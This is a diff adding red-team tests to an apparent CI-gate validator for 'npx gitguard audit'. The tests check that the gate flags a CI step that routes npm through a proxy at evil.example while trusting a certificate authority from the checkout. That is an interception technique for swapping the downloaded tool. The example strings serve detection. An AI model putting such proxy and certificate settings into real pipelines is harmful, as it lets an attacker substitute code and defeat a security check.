@@ -124,3 +124,29 @@ describe('redteam167: a restore path under a committed link', () => {
     }
   });
 });
+
+// npx downloads gitguard through HTTPS_PROXY (npm honours it) and trusts node's certificates, which
+// NODE_EXTRA_CA_CERTS extends: both set by the CI file, a server of the pusher's answers for the
+// registry. A proxy alone changes nothing (the registry's certificate is still checked).
+describe('redteam167: a certificate authority of the checkout for npx', () => {
+  const batch = gateBatch();
+  const CA = 'HTTPS_PROXY=http://evil.example:8080 NODE_EXTRA_CA_CERTS=./ca.pem';
+  it(
+    'keeps the gate: HTTPS_PROXY alone',
+    batch.add(DIRECT, job('', run('HTTPS_PROXY=http://proxy:8080 npx gitguard audit')), true),
+    600_000,
+  );
+  it('loses the gate: on the gate line', batch.add(DIRECT, job('', run(`${CA} npx gitguard audit`)), false), 600_000);
+  it(
+    "loses the gate: in the step's env:",
+    batch.add(
+      DIRECT,
+      job(
+        '',
+        `      - run: npx gitguard audit\n        env:\n          HTTPS_PROXY: http://evil.example:8080\n          NODE_EXTRA_CA_CERTS: ./ca.pem\n`,
+      ),
+      false,
+    ),
+    600_000,
+  );
+});
